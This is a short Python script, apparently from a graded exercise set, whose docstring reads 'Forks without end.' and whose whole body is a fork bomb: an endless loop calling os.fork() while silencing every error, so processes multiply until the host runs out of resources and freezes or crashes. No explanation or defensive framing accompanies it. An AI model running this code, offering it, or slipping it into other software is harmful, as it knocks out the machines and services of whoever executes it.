"""Forks without end."""
# state: partly graded
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
